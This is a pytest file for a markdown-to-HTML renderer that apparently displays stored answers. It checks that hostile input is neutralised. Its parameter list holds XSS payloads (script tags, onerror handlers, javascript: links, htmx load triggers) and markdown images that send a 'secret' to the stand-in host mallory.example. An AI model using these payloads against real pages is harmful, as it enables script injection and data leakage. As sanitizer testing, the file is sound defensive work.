"""Answers become HTML that can run nothing and fetch nothing."""

import time

import pytest

from memory.web.markdown import rendered


def test_markdown_is_rendered() -> None:
    html = rendered("**Sarah** likes:\n\n- hiking\n- `code`")

    assert "<strong>Sarah</strong>" in html
    assert "<li>hiking</li>" in html


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![secret](https://mallory.example/?q=secret)",
        "[press](javascript:alert(1))",
        "[press](data:text/html,hi)",
        "<p hx-get='/forget/everything/' hx-trigger='load'>hi</p>",
        "<style>*{display:none}</style>",
        "<iframe src='https://mallory.example'></iframe>",
        "[a]: https://mallory.example 'x'\n\n![a]",
    ],
)
def test_an_answer_runs_and_fetches_nothing(attack: str) -> None:
    html = rendered(attack)

    for forbidden in ("<script", "<img", "<iframe", "<style", "<p hx", "javascript:", "data:"):
        assert f'="{forbidden}' not in html
        assert not (forbidden.startswith("<") and forbidden in html)


def test_links_tell_the_other_side_nothing() -> None:
    html = rendered("[Acme](https://acme.example)")

    assert 'rel="noopener noreferrer nofollow"' in html


@pytest.mark.parametrize("address", ["//mallory.example/x", "/forget/everything/", "\\\\m.example"])
def test_a_link_needs_a_scheme_of_its_own(address: str) -> None:
    assert "href" not in rendered(f"[press]({address})")


def test_headings_stay_below_the_pages_own() -> None:
    assert "<h3>Plan</h3>" in rendered("# Plan")


@pytest.mark.parametrize("pattern", ["[", "![", "[a](b", "*a ", "> ", "`a"])
def test_no_answer_takes_long_to_render(pattern: str) -> None:
    text = (pattern * 40_000)[:32_768]
    started = time.perf_counter()

    rendered(text)
    rendered(text[:16_000])

    assert time.perf_counter() - started < 3.0  # a busy machine; alone it takes a tenth
